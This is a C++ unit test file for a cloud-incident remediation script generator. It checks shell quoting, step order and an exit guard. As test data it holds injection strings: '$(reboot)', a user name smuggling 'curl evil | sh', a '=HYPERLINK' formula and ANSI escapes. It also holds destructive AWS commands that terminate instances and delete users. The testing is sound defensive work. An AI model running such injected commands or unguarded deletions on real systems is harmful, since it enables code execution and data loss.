// The remediation script: every value shell-quoted, steps in a safe order,
// and a guard line that stops it until a person has read it.
#include "trailsweep/remediation_script.hpp"

#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <string>
#include <vector>

#include "test_util.hpp"

namespace trailsweep {
namespace {

using testing::run_trailsweep;

TEST(RemediationScript, QuotesEverything) {
  EXPECT_EQ(shell_quote("a'b"), "'a'\\''b'");
  EXPECT_EQ(shell_quote("$(reboot)\n"), "'$(reboot)'");
  std::string script = render_remediation_script({testing::hostile_finding()}, "2025-11-02T00:00:00Z");
  EXPECT_NE(script.find("--instance-id 'i-1$(reboot)'"), std::string::npos) << script;
  EXPECT_NE(script.find("--user-name 'x'\\''; curl evil | sh; echo '\\'''"), std::string::npos) << script;
  EXPECT_NE(script.find("# ==== Finding 1: [critical] =HYPERLINK"), std::string::npos);
  // A newline in a commented name must not start a command line.
  EXPECT_NE(script.find("user/ [31mred [0m [CRITICAL] fake\n"), std::string::npos);
  EXPECT_EQ(script.find('\x1b'), std::string::npos);
}

TEST(RemediationScript, ForTheCampaignIsOrderedGuardedAndInert) {
  testing::TempDir tmp;
  auto script_path = tmp.path() / "plan.sh";
  auto r = run_trailsweep("scan --no-summary --deterministic --remediation " + script_path.string() + " testdata/archive");
  ASSERT_EQ(r.exit_code, 1) << r.err;
  std::string s = testing::read_file(script_path);
  ASSERT_EQ(s.rfind("#!/usr/bin/env bash\n", 0), 0u);
  auto at = [&](const char* needle) {
    auto p = s.find(needle);
    EXPECT_NE(p, std::string::npos) << needle;
    return p;
  };
  std::size_t guard = at("exit 1  # GUARD");
  EXPECT_LT(at("set -euo pipefail"), guard);
  std::vector<const char*> order = {"aws iam update-access-key --user-name 'ci-deployer' --access-key-id 'AKIA3XAMPLEST0LENKEY' --status Inactive",
                                    "aws lambda delete-function-url-config",
                                    "aws lambda remove-permission",
                                    "aws autoscaling update-auto-scaling-group",
                                    "--no-disable-api-termination",
                                    "aws ec2 terminate-instances",
                                    "aws autoscaling delete-auto-scaling-group",
                                    "aws ec2 delete-launch-template",
                                    "aws ecs update-service",
                                    "aws ecs delete-service",
                                    "aws ecs deregister-task-definition",
                                    "aws ecs delete-cluster",
                                    "aws iam delete-access-key",
                                    "aws iam delete-login-profile",
                                    "aws iam delete-user --user-name 'user-x1x2x3x4'"};
  std::size_t prev = guard;
  for (const char* step : order) {
    std::size_t p = at(step);
    EXPECT_GT(p, prev) << step;
    prev = p;
  }
  // 40 protected instances each get their protection removed.
  std::size_t count = 0;
  for (std::size_t p = s.find("--no-disable-api-termination"); p != std::string::npos;
       p = s.find("--no-disable-api-termination", p + 1)) {
    ++count;
  }
  EXPECT_EQ(count, 40u);
  // Syntax is valid, and running it as is calls nothing: the guard stops it.
  auto bin = tmp.path() / "bin";
  testing::write_file(bin / "aws", "#!/bin/sh\necho called >> '" + (tmp.path() / "calls").string() + "'\n");
  std::filesystem::permissions(bin / "aws", std::filesystem::perms::owner_all);
  EXPECT_EQ(std::system(("bash -n '" + script_path.string() + "'").c_str()), 0);
  int status = std::system(("PATH='" + bin.string() + ":/usr/bin:/bin' bash '" + script_path.string() + "' 2>/dev/null").c_str());
  EXPECT_EQ(WEXITSTATUS(status), 1);
  EXPECT_FALSE(std::filesystem::exists(tmp.path() / "calls"));
}

}  // namespace
}  // namespace trailsweep
